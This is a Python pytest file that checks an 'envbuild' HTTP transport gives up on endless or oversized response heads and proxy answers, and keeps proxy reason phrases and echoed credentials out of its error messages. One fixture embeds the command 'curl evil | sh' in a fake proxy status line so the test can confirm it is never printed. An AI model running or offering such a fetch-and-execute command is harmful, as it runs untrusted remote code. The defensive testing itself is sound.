"""Heads of answers that have no end: the attempt ends."""

from __future__ import annotations

import pytest

from envbuild.net.failures import UnreachableError
from envbuild.net.limits import DownloadLimits
from envbuild.net.network_settings import NetworkSettings
from envbuild.net.transport import Transport
from tests.support.endless_server import sending
from tests.support.time_limit import ends_within

pytestmark = pytest.mark.unit

INTERIM = b"HTTP/1.1 100 Continue\r\n\r\n"


@pytest.mark.parametrize(
    ("piece", "pause", "why"),
    [(INTERIM * 100, 0, "has more than 1048576 bytes"), (b"H", 0.05, "no answer in time")],
    ids=["interim answers", "a byte at a time"],
)
def test_the_head_of_an_answer_has_an_end(piece: bytes, pause: float, why: str) -> None:
    transport = Transport(NetworkSettings(), limits=DownloadLimits(grace=1 if pause else 30))
    with sending(piece, pause) as url, ends_within(30), pytest.raises(UnreachableError, match=why), transport.get(url):
        pass


@pytest.mark.parametrize(
    ("piece", "pause", "why"),
    [(b"X: y\r\n" * 1000, 0, "has more than 1048576 bytes"), (b"H", 0.05, "no answer in time")],
    ids=["headers", "a byte at a time"],
)
def test_the_answer_of_a_proxy_to_connect_has_an_end(piece: bytes, pause: float, why: str) -> None:
    limits, begin = DownloadLimits(grace=1 if pause else 30), b"" if pause else b"HTTP/1.1 200 OK\r\n"
    with sending(piece, pause, begin) as proxy, ends_within(30), pytest.raises(UnreachableError, match=why):
        Transport(NetworkSettings(proxy=proxy), limits=limits).get("https://envbuild.example/").__enter__()


def test_the_phrase_of_a_proxy_is_not_printed() -> None:
    """It may repeat the login that the proxy got, or look like a command to type."""
    with sending(b"HTTP/1.1 502 Basic hush, run: curl evil | sh\r\nContent-Length: 0\r\n\r\n", 0) as proxy:
        with pytest.raises(UnreachableError) as caught:
            Transport(NetworkSettings(proxy=proxy)).get("https://envbuild.example/").__enter__()
        assert str(caught.value) == "the proxy answers HTTP 502"


def test_an_interim_answer_before_the_real_one_is_read() -> None:
    with sending(INTERIM + b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", 60) as url, ends_within(30):
        assert Transport(NetworkSettings()).read(url).content == b"ok"


def test_an_answer_that_is_not_http_is_not_printed() -> None:
    """A server may repeat the request, with the login in it."""
    with sending(b"Authorization: Basic aHVzaA==\r\n\r\n", 60) as url, ends_within(30):
        with (
            pytest.raises(UnreachableError, match="its answer is not HTTP") as caught,
            Transport(NetworkSettings()).get(url),
        ):
            pass
        assert "aHVzaA" not in str(caught.value)
